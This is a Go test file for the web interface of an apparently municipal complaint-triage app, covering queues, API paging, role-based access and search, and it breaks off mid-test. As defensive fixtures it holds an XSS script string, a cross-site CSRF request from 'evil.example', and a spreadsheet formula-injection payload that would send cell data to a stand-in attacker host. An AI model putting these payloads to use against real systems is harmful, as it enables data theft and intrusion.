package web

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/alicebob/miniredis/v2"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/redis/go-redis/v9"
	"github.com/tanggap/tanggap"
	"github.com/tanggap/tanggap/config"
	"github.com/tanggap/tanggap/store"
	"github.com/tanggap/tanggap/triage/classify"
	"github.com/tanggap/tanggap/workflow"
)

type fixture struct {
	srv  *httptest.Server
	st   *store.Store
	now  time.Time
	logs *lockedBuffer         // the server's log
	rdb  *redis.Client         // the store's Redis (miniredis)
	cfg  *config.Config        // the city config the server and its clocks read
	gaps atomic.Pointer[[]Gap] // the collectors' coverage gaps the banner shows
}

const pw = "kata-sandi-uji-1"

func newFixture(t *testing.T) *fixture {
	t.Helper()
	cfg, err := config.Load("")
	if err != nil {
		t.Fatal(err)
	}
	mr := miniredis.RunT(t)
	rdb := redis.NewClient(&redis.Options{Addr: mr.Addr()})
	t.Cleanup(func() { rdb.Close() })
	now := time.Date(2026, 3, 17, 10, 0, 0, 0, time.UTC)
	st := store.New(rdb, "test", func() time.Time { return now })
	clocks, err := workflow.NewClocks(cfg, "")
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	f := &fixture{st: st, now: now, logs: &lockedBuffer{}, rdb: rdb, cfg: cfg}
	for _, u := range []store.User{
		{Login: "dlh", Name: "Admin DLH", Role: string(RoleOPDAdmin), OPD: "lingkungan_hidup"},
		{Login: "dlh.ppid", Name: "PPID DLH", Role: string(RolePPIDPelaksana), OPD: "lingkungan_hidup"},
		{Login: "dbm", Name: "Admin DBMSDA", Role: string(RoleOPDAdmin), OPD: "bina_marga_sda"},
		{Login: "humas", Name: "Humas", Role: string(RolePPIDUtama)},
		{Login: "ops", Name: "Operator", Role: string(RoleOperator)},
	} {
		if err := st.PutUser(ctx, u, pw, true); err != nil {
			t.Fatal(err)
		}
	}
	ingest := func(id, opd, text string, age time.Duration) {
		created := now.Add(-age)
		_, err := st.Ingest(ctx, store.Ingest{
			Post: tanggap.Post{Platform: tanggap.PlatformX, ID: id, Text: text, Author: "<b>warga</b>", Account: "humasbekasikota",
				CreatedAt: created, CapturedAt: created, ThreadID: id, URL: "https://x.com/w/status/" + id},
			Kind: tanggap.KindComplaint, OPD: opd, Status: tanggap.StatusAssigned, Confidence: 0.8, Queued: true,
			Deadlines: clocks.Deadlines(created, tanggap.KindComplaint, opd, false), Features: []string{"kata: " + strings.Fields(text)[0]},
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	ingest("101", "lingkungan_hidup", `sampah <script>alert("x")</script> numpuk`, 30*time.Hour)
	ingest("102", "lingkungan_hidup", "bau busuk dari TPS", time.Hour)
	ingest("201", "bina_marga_sda", "jalan berlubang di jl ahmad yani", 2*time.Hour)
	reg := prometheus.NewRegistry()
	s, err := New(Options{Config: cfg, Store: st, Sessions: st, Accounts: st, Clocks: clocks, Workflow: workflow.New(st, cfg, clocks, func() time.Time { return now }), Log: slog.New(slog.NewTextHandler(f.logs, nil)),
		Registry: reg, Now: func() time.Time { return now }, Coverage: func(context.Context) []Gap {
			if g := f.gaps.Load(); g != nil {
				return *g
			}
			return nil
		}})
	if err != nil {
		t.Fatal(err)
	}
	f.srv = httptest.NewServer(s)
	t.Cleanup(f.srv.Close)
	return f
}

// client signs in as login ("" for anonymous) and returns a cookie-keeping client.
func (f *fixture) client(t *testing.T, login string) *http.Client {
	t.Helper()
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	if login == "" {
		return c
	}
	res, err := c.PostForm(f.srv.URL+"/masuk", url.Values{"login": {login}, "password": {pw}})
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusSeeOther {
		t.Fatalf("login %s: %d", login, res.StatusCode)
	}
	return c
}

func get(t *testing.T, c *http.Client, u string) (int, string) {
	t.Helper()
	req, _ := http.NewRequest("GET", u, nil)
	return send(t, c, req)
}

// post sends a form from the same origin, as the browser does.
func post(t *testing.T, c *http.Client, u string, v url.Values) (int, string) {
	t.Helper()
	return send(t, c, formPost(u, v))
}

func send(t *testing.T, c *http.Client, req *http.Request) (int, string) {
	t.Helper()
	res, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return res.StatusCode, string(b)
}

// hasAll reports each of want that body lacks and each of lack it has.
func hasAll(t *testing.T, what, body string, want, lack []string) {
	t.Helper()
	for _, w := range want {
		if !strings.Contains(body, w) {
			t.Errorf("%s lacks %q", what, w)
		}
	}
	for _, l := range lack {
		if strings.Contains(body, l) {
			t.Errorf("%s has %q", what, l)
		}
	}
}

func TestQueueAndItemPages(t *testing.T) {
	f := newFixture(t)
	c := f.client(t, "dlh")
	code, body := get(t, c, f.srv.URL+"/antrian/lingkungan_hidup")
	if code != 200 {
		t.Fatalf("queue: %d %s", code, body)
	}
	for _, want := range []string{"Antrian", "Terlambat (1)", "Belum dijawab (1)", "bau busuk dari TPS", "&lt;script&gt;", "&lt;b&gt;warga&lt;/b&gt;", "Kalender libur 2027 belum dimuat"} {
		if !strings.Contains(body, want) {
			t.Errorf("queue page lacks %q", want)
		}
	}
	if strings.Contains(body, "<script>alert") {
		t.Fatal("citizen text rendered as HTML")
	}
	if !strings.Contains(body, "1-3 HK") || !strings.Contains(body, `<option value="spam">Spam / promosi</option>`) {
		t.Error("queue page lacks the age bucket 1-3 HK or the archive reasons by name")
	}
	_, body = get(t, c, f.srv.URL+"/antrian/lingkungan_hidup?lang=en")
	for _, want := range []string{"Queue", "<th>Text</th>", "1-3 working days"} {
		if !strings.Contains(body, want) {
			t.Errorf("queue page (en) lacks %q", want)
		}
	}
	code, body = get(t, c, f.srv.URL+"/item/x:102?lang=en")
	if code != 200 || !strings.Contains(body, "Deadline") || !strings.Contains(body, "On track") {
		t.Fatalf("item page (en): %d", code)
	}
	// The fixture's clock is in 2026 and the holiday table ends with 2026:
	// the warning about 2027 speaks the page's language too.
	if !strings.Contains(body, "Holiday calendar for 2027 not loaded") || strings.Contains(body, "Kalender libur") {
		t.Errorf("item page (en) lacks the English holiday-calendar warning")
	}
	if !strings.Contains(body, `<option value="noise">Noise (chatter, greetings)</option>`) || !strings.Contains(body, "<li>word: bau</li>") {
		t.Errorf("item page (en) lacks the archive reasons by name or the classifier's reason in English")
	}
}

// A backlog longer than a page is listed in pages, nearest deadline
// first, and the page says which part it shows and how many are overdue
// in all (the section headings count this page's items only).
func TestQueuePaging(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	// 320 more for DBMSDA (the fixture has 1): 40 past their 24 h deadline.
	for i := range 320 {
		created := f.now.Add(-time.Duration(i+1) * time.Minute)
		if i < 40 {
			created = created.Add(-30 * time.Hour)
		}
		id := strconv.Itoa(5000 + i)
		if _, err := f.st.Ingest(ctx, store.Ingest{
			Post: tanggap.Post{Platform: tanggap.PlatformX, ID: id, Text: "jalan rusak " + id, Author: "warga", Account: "humasbekasikota",
				CreatedAt: created, CapturedAt: created, ThreadID: id, URL: "https://x.com/w/status/" + id},
			Kind: tanggap.KindComplaint, OPD: "bina_marga_sda", Status: tanggap.StatusAssigned, Queued: true,
			Deadlines: tanggap.Deadlines{FirstResponse: created.Add(24 * time.Hour), Resolution: created.Add(14 * 24 * time.Hour)},
		}); err != nil {
			t.Fatal(err)
		}
	}
	// And 301 on hold, which the first page lists (300 of them) below.
	for i := range 301 {
		created := f.now.Add(-time.Duration(i+1) * time.Minute)
		id := strconv.Itoa(7000 + i)
		if _, err := f.st.Ingest(ctx, store.Ingest{
			Post: tanggap.Post{Platform: tanggap.PlatformX, ID: id, Text: "lampu mati " + id, Author: "warga", Account: "humasbekasikota",
				CreatedAt: created, CapturedAt: created, ThreadID: id, URL: "https://x.com/w/status/" + id},
			Kind: tanggap.KindComplaint, OPD: "bina_marga_sda", Status: tanggap.StatusOnHold, Queued: true,
		}); err != nil {
			t.Fatal(err)
		}
	}
	c := f.client(t, "dbm")
	rows := func(body string) int { return strings.Count(body, "<tr class=\"state-") }
	for _, tc := range []struct {
		path       string
		rows       int
		want, lack []string
	}{
		{"/antrian/bina_marga_sda", 600, []string{"Menampilkan aduan 1-300 dari 321 yang tenggatnya berjalan, tenggat terdekat lebih dulu; 40 di antaranya terlambat.",
			`href="/antrian/bina_marga_sda?hal=2">Halaman berikutnya`, "Terlambat (40)", `hx-get="/antrian/bina_marga_sda/daftar?hal=1"`,
			"Tunda (301)", "Menampilkan 300 yang paling awal diterima dari 301 aduan yang ditunda."}, []string{"Halaman sebelumnya"}},
		{"/antrian/bina_marga_sda?hal=2", 21, []string{"Menampilkan aduan 301-321 dari 321", `href="/antrian/bina_marga_sda?hal=1">« Halaman sebelumnya`,
			`hx-get="/antrian/bina_marga_sda/daftar?hal=2"`, "Terlambat (0)"}, []string{"Halaman berikutnya", "jalan rusak 5000<", `id="held"`}},
		{"/antrian/bina_marga_sda?hal=9", 21, []string{"Menampilkan aduan 301-321 dari 321"}, nil}, // past the end: the last page
		{"/antrian/bina_marga_sda?hal=x", 600, []string{"Menampilkan aduan 1-300"}, nil},
		{"/antrian/bina_marga_sda/daftar?hal=2", 21, []string{"Menampilkan aduan 301-321"}, nil},
		{"/antrian/bina_marga_sda?lang=en", 600, []string{"Showing items 1-300 of the 321 with a running clock, nearest deadline first; 40 of them are overdue.", "Next page »",
			"Showing the 300 received first of the 301 items on hold."}, nil},
	} {
		code, body := get(t, c, f.srv.URL+tc.path)
		if code != 200 {
			t.Fatalf("GET %s: %d", tc.path, code)
		}
		if n := rows(body); n != tc.rows {
			t.Errorf("GET %s: %d rows, want %d", tc.path, n, tc.rows)
		}
		hasAll(t, "GET "+tc.path, body, tc.want, tc.lack)
	}
	// A queue that fits on one page has no pager.
	if _, body := get(t, f.client(t, "dlh"), f.srv.URL+"/antrian/lingkungan_hidup"); strings.Contains(body, `class="pager"`) {
		t.Error("a two-item queue shows a pager")
	}
}

func TestAnswerAndAssign(t *testing.T) {
	f := newFixture(t)
	c := f.client(t, "dlh")
	if code, _ := post(t, c, f.srv.URL+"/item/x:102/answer", url.Values{"url": {"https://x.com/dlh/status/9"}, "version": {"1"}}); code != http.StatusSeeOther {
		t.Fatalf("answer: %d", code)
	}
	it, _ := f.st.Item(context.Background(), "x:102")
	if it.FirstResponseAt == nil || it.Status != tanggap.StatusInProgress || it.FirstResponseURL != "https://x.com/dlh/status/9" {
		t.Fatalf("after answer: %+v", it)
	}
	// The history speaks the page's language: actions and the system's
	// actor by name, not by code.
	for _, tc := range []struct{ query, want string }{
		{"", "<b>sistem (triase)</b> diterima: Terdisposisi"},
		{"", "<b>dlh</b> dijawab: Terdisposisi → Diproses"},
		{"?lang=en", "<b>system (triage)</b> received: Assigned"},
		{"?lang=en", "<b>dlh</b> answered: Assigned → In progress"},
	} {
		_, body := get(t, c, f.srv.URL+"/item/x:102"+tc.query)
		if i := strings.Index(body, `<ol class="history">`); i < 0 || !strings.Contains(body[i:], tc.want) {
			t.Errorf("item history%s lacks %q", tc.query, tc.want)
		}
	}
	// The resolution deadline can be extended once (a field check for a
	// complaint), and the page says so in the history.
	it, _ = f.st.Item(context.Background(), "x:102")
	if _, body := get(t, c, f.srv.URL+"/item/x:102?lang=id"); !strings.Contains(body, `action="/item/x:102/extend"`) || !strings.Contains(body, "pemeriksaan lapangan") {
		t.Error("the item page offers no extension")
	}
	if code, _ := post(t, c, f.srv.URL+"/item/x:102/extend", url.Values{"reason": {"perlu cek saluran"}, "version": {strconv.FormatInt(it.Version, 10)}}); code != http.StatusSeeOther {
		t.Fatalf("extend: %d", code)
	}
	if _, body := get(t, c, f.srv.URL+"/item/x:102?lang=en"); strings.Contains(body, `action="/item/x:102/extend"`) || !strings.Contains(body, "resolution deadline extended") {
		t.Error("after the extension: the form is still offered, or the history does not name it")
	}
	// A stale version is a conflict, not an overwrite.
	if code, _ := post(t, c, f.srv.URL+"/item/x:102/assign", url.Values{"opd": {"perhubungan"}, "reason": {"salah"}, "version": {"1"}}); code != http.StatusConflict {
		t.Fatalf("stale assign: %d", code)
	}
	if code, _ := post(t, c, f.srv.URL+"/item/x:101/assign", url.Values{"opd": {"bina_marga_sda"}, "reason": {"got mampet, bukan sampah"}, "version": {"1"}}); code != http.StatusSeeOther {
		t.Fatalf("assign: %d", code)
	}
	// The person's routing is a training example the PPID Utama can export.
	code, body := get(t, f.client(t, "humas"), f.srv.URL+"/koreksi.csv")
	if code != 200 || !strings.HasPrefix(body, "text,opd,kind,") || !strings.Contains(body, "bina_marga_sda") || !strings.Contains(body, "numpuk") {
		t.Fatalf("corrections CSV: %d %q", code, body)
	}
	// The item left DLH: DLH's admin no longer sees it.
	if code, _ := get(t, c, f.srv.URL+"/item/x:101"); code != http.StatusNotFound {
		t.Fatalf("moved item still visible to DLH: %d", code)
	}
	// Cross-origin form posts are refused (CSRF).
	req, _ := http.NewRequest("POST", f.srv.URL+"/item/x:102/answer", strings.NewReader("url=https://evil&version=2"))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", "https://evil.example")
	req.Header.Set("Sec-Fetch-Site", "cross-site")
	res, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusForbidden {
		t.Fatalf("cross-site post: %d", res.StatusCode)
	}
}

// The corrections CSV carries citizen text: a text that starts as a
// formula (= + - @) is written as text, as in the report exports, and the
// file still reads back as the trainer's CSV.
func TestCorrectionsCSVGuardsFormulas(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	texts := map[string]string{
		"401": `=HYPERLINK("https://evil.example/?d="&A1,"lihat foto jalan")`,
		"402": "+62 812 jalan rusak",
		"403": " @SUM(1+1) jalan",
		"404": "jalan berlubang = bahaya",
	}
	h := f.client(t, "humas")
	for id, text := range texts {
		at := f.now.Add(-time.Hour)
		if _, err := f.st.Ingest(ctx, store.Ingest{
			Post: tanggap.Post{Platform: tanggap.PlatformX, ID: id, Text: text, Author: "w", Account: "humasbekasikota",
				CreatedAt: at, CapturedAt: at, ThreadID: id},
			Kind: tanggap.KindComplaint, OPD: "lingkungan_hidup", Status: tanggap.StatusAssigned, Queued: true}); err != nil {
			t.Fatal(err)
		}
		if code, body := post(t, h, f.srv.URL+"/item/x:"+id+"/assign", url.Values{"opd": {"bina_marga_sda"}, "reason": {"jalan"}, "version": {"1"}}); code != http.StatusSeeOther {
			t.Fatalf("assign x:%s: %d %.300s", id, code, body)
		}
	}
	code, body := get(t, h, f.srv.URL+"/koreksi.csv")
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if code != 200 || err != nil || len(recs) != len(texts)+1 {
		t.Fatalf("koreksi.csv: %d %v %d records:\n%s", code, err, len(recs), body)
	}
	for _, rec := range recs[1:] {
		want := texts[strings.TrimPrefix(rec[5], "x:")]
		if want != texts["404"] {
			want = "'" + want
		}
		if rec[0] != want {
			t.Errorf("%s: text cell %q, want %q", rec[5], rec[0], want)
		}
	}
}

func TestAPIItems(t *testing.T) {
	f := newFixture(t)
	_, body := get(t, f.client(t, "humas"), f.srv.URL+"/api/v1/items")
	var items []map[string]any
	if err := json.Unmarshal([]byte(body), &items); err != nil {
		t.Fatalf("%v: %s", err, body)
	}
	if len(items) != 3 {
		t.Fatalf("humas sees %d items", len(items))
	}
	for _, k := range []string{"id", "platform", "url", "author", "text", "kind", "opd", "status", "created_at", "first_response_at", "deadline", "deadline_state"} {
		if _, ok := items[0][k]; !ok {
			t.Errorf("item JSON lacks %q", k)
		}
	}
	_, body = get(t, f.client(t, "dbm"), f.srv.URL+"/api/v1/items")
	items = nil
	json.Unmarshal([]byte(body), &items)
	if len(items) != 1 || items[0]["opd"] != "bina_marga_sda" {
		t.Fatalf("dbm sees %v", items)
	}
}

// apiPages follows the API's next links from u and returns the ids of
// every page, in order, and the number of pages.
func apiPages(t *testing.T, f *fixture, c *http.Client, u string) (ids []string, pages int) {
	t.Helper()
	next := regexp.MustCompile(`^<(/api/v1/items\?[^>]+)>; rel="next"$`)
	for ; u != ""; pages++ {
		if pages > 100 {
			t.Fatalf("no end after %d pages", pages)
		}
		req, _ := http.NewRequest("GET", u, nil)
		res, err := c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		var items []apiItem
		err = json.NewDecoder(res.Body).Decode(&items)
		res.Body.Close()
		if res.StatusCode != 200 || err != nil {
			t.Fatalf("GET %s: %d %v", u, res.StatusCode, err)
		}
		for _, it := range items {
			ids = append(ids, it.ID)
		}
		u = ""
		if l := res.Header.Get("Link"); l != "" {
			m := next.FindStringSubmatch(l)
			if m == nil {
				t.Fatalf("GET %s: Link %q", res.Request.URL, l)
			}
			u = f.srv.URL + m[1]
		}
	}
	return ids, pages
}

// The API's pages follow each other without losing the items that share
// the last item's second (X and Facebook give whole seconds): the next
// link continues after that item. before keeps its documented meaning,
// strictly before the instant.
func TestAPIPaging(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	at := f.now.Add(-5 * time.Hour).Truncate(time.Second)
	for _, id := range []string{"301", "302", "303"} {
		if _, err := f.st.Ingest(ctx, store.Ingest{
			Post: tanggap.Post{Platform: tanggap.PlatformX, ID: id, Text: "lampu jalan mati " + id, Author: "warga" + id, Account: "humasbekasikota",
				CreatedAt: at, CapturedAt: at, ThreadID: id},
			Kind: tanggap.KindComplaint, OPD: "bina_marga_sda", Status: tanggap.StatusAssigned, Queued: true}); err != nil {
			t.Fatal(err)
		}
	}
	c := f.client(t, "dbm")
	want := []string{"x:201", "x:303", "x:302", "x:301"}
	for _, limit := range []string{"1", "2", "3", "4"} {
		ids, pages := apiPages(t, f, c, f.srv.URL+"/api/v1/items?status=ASSIGNED&limit="+limit)
		if !slices.Equal(ids, want) {
			t.Errorf("limit %s: pages gave %v, want %v", limit, ids, want)
		}
		if n, _ := strconv.Atoi(limit); pages != len(want)/n+1 {
			t.Errorf("limit %s: %d pages", limit, pages)
		}
	}
	if ids, _ := apiPages(t, f, c, f.srv.URL+"/api/v1/items?before="+url.QueryEscape(at.Format(time.RFC3339))); len(ids) != 0 {
		t.Errorf("before the three items' second: %v", ids)
	}
	if ids, _ := apiPages(t, f, c, f.srv.URL+"/api/v1/items?before="+url.QueryEscape(at.Add(time.Second).Format(time.RFC3339))); !slices.Equal(ids, want[1:]) {
		t.Errorf("before the next second: %v, want %v", ids, want[1:])
	}
	cur := store.ItemCursor{At: at.UnixMilli(), ID: "x:303"}.String()
	for q, code := range map[string]int{
		"cursor=" + cur: 200,
		"cursor=" + cur + "&before=2026-03-17T10:00:00Z": 400,
		"cursor=bukan-kursor":                            400,
	} {
		if got, body := get(t, c, f.srv.URL+"/api/v1/items?"+q); got != code {
			t.Errorf("?%s: %d %s, want %d", q, got, body, code)
		}
	}
}

// A status few items have does not make one API call read the caller's
// whole scope: a call reads at most apiScan items and, when it stopped
// there, links to where it goes on, so the match past the budget is on
// the next page.
func TestAPIScanBudget(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	var batch []store.Ingest
	add := func(id string, age time.Duration, status tanggap.Status) {
		at := f.now.Add(-age)
		batch = append(batch, store.Ingest{
			Post: tanggap.Post{Platform: tanggap.PlatformX, ID: id, Text: "sampah " + id, Author: "w", Account: "humasbekasikota",
				CreatedAt: at, CapturedAt: at, ThreadID: id},
			Kind: tanggap.KindComplaint, OPD: "lingkungan_hidup", Status: status, Queued: true})
	}
	for i := range apiScan + 100 {
		add(strconv.Itoa(900000+i), time.Duration(i+10)*time.Minute, tanggap.StatusAssigned)
	}
	add("999999", 1000*time.Hour, tanggap.StatusReopened) // the oldest
	for len(batch) > 0 {
		n := min(len(batch), 1000)
		_, errs := f.st.IngestBatch(ctx, batch[:n])
		for _, err := range errs {
			if err != nil {
				t.Fatal(err)
			}
		}
		batch = batch[n:]
	}
	c := f.client(t, "dlh")
	ids, pages := apiPages(t, f, c, f.srv.URL+"/api/v1/items?status=REOPENED&limit=2")
	if !slices.Equal(ids, []string{"x:999999"}) || pages != 2 {
		t.Errorf("status=REOPENED&limit=2: %v in %d pages, want x:999999 on the second of two", ids, pages)
	}
	// The budget stops a page early, not a page that fills first.
	if ids, pages := apiPages(t, f, c, f.srv.URL+"/api/v1/items?limit=1000"); len(ids) != apiScan+103 || pages != 6 {
		t.Errorf("limit=1000: %d items in %d pages", len(ids), pages)
	}
}

// A session store that does not answer is an outage, not a sign-out: the
// API answers 503 in its error shape, pages the error page in their
// language and Open311 its own 503, where a missing, ended or orphaned
// session still asks to sign in.
func TestSessionStoreDown(t *testing.T) {
	f := newFixture(t)
	dlh, dbm := f.client(t, "dlh"), f.client(t, "dbm")
	// A session whose user was deleted is signed out, not an outage.
	if err := f.rdb.Del(context.Background(), "tanggap:{test}:user:dbm").Err(); err != nil {
		t.Fatal(err)
	}
	for _, c := range []*http.Client{f.client(t, ""), dbm} {
		if code, _ := get(t, c, f.srv.URL+"/api/v1/items"); code != http.StatusUnauthorized {
			t.Errorf("API without a valid session: %d, want 401", code)
		}
		if res, err := c.Get(f.srv.URL + "/antrian/lingkungan_hidup"); err != nil || res.StatusCode != http.StatusSeeOther ||
			!strings.HasPrefix(res.Header.Get("Location"), "/masuk?next=") {
			t.Errorf("page without a valid session: %v %v, want a redirect to /masuk", res, err)
		}
	}
	f.rdb.Close()
	code, body := get(t, dlh, f.srv.URL+"/api/v1/items")
	var e map[string]string
	if err := json.Unmarshal([]byte(body), &e); code != http.StatusServiceUnavailable || err != nil || e["error"] != tanggap.EUNAVAILABLE ||
		e["message"] != "temporarily unavailable: try again shortly" {
		t.Errorf("API with Redis down: %d %s, want 503 unavailable", code, body)
	}
	for _, tc := range []struct{ path, want string }{
		{"/antrian/lingkungan_hidup", "Layanan sedang tidak tersedia"},
		{"/item/x:101?lang=en", "The service is unavailable"},
	} {
		code, body := get(t, dlh, f.srv.URL+tc.path)
		if code != http.StatusServiceUnavailable || !strings.Contains(body, tc.want) {
			t.Errorf("GET %s with Redis down: %d, want 503 saying %q: %.300s", tc.path, code, tc.want, body)
		}
	}
	if code, body := get(t, dlh, f.srv.URL+"/open311/v2/requests.json"); code != http.StatusServiceUnavailable {
		t.Errorf("Open311 with Redis down: %d %s, want 503", code, body)
	}
}

// TestAuthorizationMatrix walks every route with every role: nobody reads
// or changes what they must not.
func TestAuthorizationMatrix(t *testing.T) {
	f := newFixture(t)
	type want map[string]int // login -> status
	all := func(anon, dlh, dlhppid, dbm, humas, ops int) want {
		return want{"": anon, "dlh": dlh, "dlh.ppid": dlhppid, "dbm": dbm, "humas": humas, "ops": ops}
	}
	const (
		ok  = 200
		see = 303
		nf  = 404
		fb  = 403
		ua  = 401
	)
	routes := []struct {
		method, path string
		form         url.Values
		w            want
	}{
		{"GET", "/", nil, all(see, see, see, see, ok, see)}, // the operator to /pengguna (TestOperatorSignsInToAccounts)
		{"GET", "/antrian/lingkungan_hidup", nil, all(see, ok, ok, fb, ok, fb)},
		{"GET", "/antrian/bina_marga_sda", nil, all(see, fb, fb, ok, ok, fb)},
		{"GET", "/antrian/_unrouted", nil, all(see, fb, fb, fb, ok, fb)},
		{"GET", "/item/x:101", nil, all(see, ok, ok, nf, ok, fb)},
		{"GET", "/item/x:201", nil, all(see, nf, nf, ok, ok, fb)},
		{"POST", "/item/x:201/answer", url.Values{"url": {"https://x.com/a/status/1"}, "version": {"99"}}, all(see, nf, nf, 409, 409, fb)},
		{"POST", "/item/x:201/assign", url.Values{"opd": {"perhubungan"}, "reason": {"r"}, "version": {"99"}}, all(see, nf, nf, 409, 409, fb)},
		{"GET", "/api/v1/items", nil, all(ua, ok, ok, ok, ok, fb)},
		{"GET", "/api/v1/items?opd=bina_marga_sda", nil, all(ua, fb, fb, ok, ok, fb)},
		{"GET", "/api/v1/items/x:201", nil, all(ua, nf, nf, ok, ok, fb)},
		{"GET", "/koreksi.csv", nil, all(see, fb, fb, fb, ok, fb)},
		{"GET", "/cari?q=jalan", nil, all(see, ok, ok, ok, ok, fb)},
		{"GET", "/akun", nil, all(see, ok, ok, ok, ok, ok)},
		{"GET", "/pengguna", nil, all(see, fb, fb, fb, ok, ok)},
		{"GET", "/pengguna/dlh", nil, all(see, fb, fb, fb, ok, ok)},
		{"GET", "/pengguna/ops", nil, all(see, fb, fb, fb, fb, see)},
		{"POST", "/pengguna/dbm", url.Values{"action": {"bogus"}}, all(see, fb, fb, fb, 400, 400)},
		{"POST", "/pengguna", url.Values{"login": {"baru"}, "name": {"Baru"}, "role": {"operator"}}, all(see, fb, fb, fb, fb, ok)},
		{"GET", "/metrics", nil, all(ok, ok, ok, ok, ok, ok)},
		{"GET", "/healthz", nil, all(ok, ok, ok, ok, ok, ok)},
	}
	clients := map[string]*http.Client{}
	for login := range routes[0].w {
		clients[login] = f.client(t, login)
	}
	for _, rt := range routes {
		for login, code := range rt.w {
			var res *http.Response
			var err error
			if rt.method == "POST" {
				req, _ := http.NewRequest("POST", f.srv.URL+rt.path, strings.NewReader(rt.form.Encode()))
				req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
				res, err = clients[login].Do(req)
			} else {
				res, err = clients[login].Get(f.srv.URL + rt.path)
			}
			if err != nil {
				t.Fatal(err)
			}
			res.Body.Close()
			if res.StatusCode != code {
				t.Errorf("%s %s as %q: got %d, want %d", rt.method, rt.path, login, res.StatusCode, code)
			}
		}
	}
	// Nothing changed hands.
	it, _ := f.st.Item(context.Background(), "x:201")
	if it.OPD != "bina_marga_sda" || it.Version != 1 {
		t.Fatalf("item changed: %+v", it)
	}
}

// Search finds items by their words within what the person may see, and
// echoes the citizen's text and the query escaped.
func TestSearchPage(t *testing.T) {
	f := newFixture(t)
	dlh, dbm, humas := f.client(t, "dlh"), f.client(t, "dbm"), f.client(t, "humas")
	for _, tc := range []struct {
		c          *http.Client
		q          string
		want, lack []string
	}{
		{dlh, "SAMPAH", []string{`data-id="x:101"`, "&lt;script&gt;", "Ditemukan 1 di antara semua 2 aduan.", "Dinas Lingkungan Hidup"}, []string{"<script>alert"}},
		// An OPD's people search their OPD only.
		{dlh, "jalan", []string{"Ditemukan 0 di antara semua 2 aduan.", "Tidak ada."}, []string{"x:201"}},
		{dbm, "jalan yani", []string{`data-id="x:201"`, "Ditemukan 1 di antara semua 1 aduan."}, nil},
		{humas, "jalan", []string{`data-id="x:201"`, "Dinas Bina Marga dan Sumber Daya Air", "Ditemukan 1 di antara semua 3 aduan."}, nil},
		{humas, "<b>warga</b> x:102", []string{`data-id="x:102"`, `value="&lt;b&gt;warga&lt;/b&gt; x:102"`}, []string{`data-id="x:101"`}},
		{humas, "", []string{`name="q"`}, []string{"Ditemukan", `<table class="items">`}},
		{humas, "jalan&lang=en", []string{"Found 1 among all 3 items.", "Search items"}, nil},
	} {
		code, body := get(t, tc.c, f.srv.URL+"/cari?q="+strings.Replace(url.QueryEscape(tc.q), "%26lang%3D", "&lang=", 1))
		if code != 200 {
			t.Fatalf("search %q: %d", tc.q, code)
		}
		hasAll(t, fmt.Sprintf("search %q", tc.q), body, tc.want, tc.lack)
	}
	code, body := get(t, dlh, f.srv.URL+"/cari?q="+strings.Repeat("a", 201))
	if code != 400 || !strings.Contains(body, "kata pencarian paling banyak 200 karakter") {
		t.Errorf("a 201-character search: %d", code)
	}
	// Days received (the city's time: x:101 came on 16 March at 11:00,
	// x:201 and x:102 on the 17th at 15:00 and 16:00) and where an earlier
	// page stopped (just after x:102).
	after102 := strconv.FormatInt(f.now.Add(-time.Hour).UnixMilli(), 10) + ".1"
	for _, tc := range []struct {
		query      string
		code       int
		want, lack []string
	}{
		{"q=x:&dari=2026-03-17", 200, []string{`data-id="x:102"`, `data-id="x:201"`, "Ditemukan 2 di antara semua 2 aduan yang diterima pada tanggal itu.", `value="2026-03-17"`}, []string{`data-id="x:101"`, `rel="next"`}},
		{"q=x:&sampai=2026-03-16", 200, []string{`data-id="x:101"`, "Ditemukan 1 di antara semua 1 aduan"}, []string{`data-id="x:102"`, `data-id="x:201"`}},
		{"q=x:&dari=2026-03-16&sampai=2026-03-16&lang=en", 200, []string{`data-id="x:101"`, "Found 1 among all 1 items received on those days."}, []string{`data-id="x:201"`}},
		{"q=x:&lanjut=" + after102, 200, []string{`data-id="x:201"`, `data-id="x:101"`, "Ditemukan 2 di antara 2 aduan yang diterima 16/03/2026 11:00 sampai 17/03/2026 15:00. Tidak ada aduan yang lebih lama."}, []string{`data-id="x:102"`, `rel="next"`}},
		{"q=x:&dari=2026-03-17&sampai=2026-03-16", 400, []string{"tanggal dari tidak boleh sesudah tanggal sampai"}, nil},
		{"q=x:&dari=2026-3-1", 400, []string{"tanggal dari harus berformat YYYY-MM-DD, bukan &#34;2026-3-1&#34;"}, nil},
		{"q=x:&sampai=%3Cb%3E", 400, []string{"tanggal sampai harus berformat YYYY-MM-DD, bukan &#34;&lt;b&gt;&#34;"}, nil},
		{"q=x:&lanjut=1.x", 400, []string{"penanda lanjutan pencarian &#34;1.x&#34; tidak sah"}, nil},
	} {
		if !strings.Contains(tc.query, "lang=") {
			tc.query += "&lang=id" // the English case above set the cookie
		}
		code, body := get(t, humas, f.srv.URL+"/cari?"+tc.query)
		if code != tc.code {
			t.Errorf("search %s: %d, want %d", tc.query, code, tc.code)
		}
		hasAll(t, "search "+tc.query, body, tc.want, tc.lack)
	}
	// More matches than a page shows: the page links to the rest, and the
	// rest, read from where the first stopped, repeats none of them.
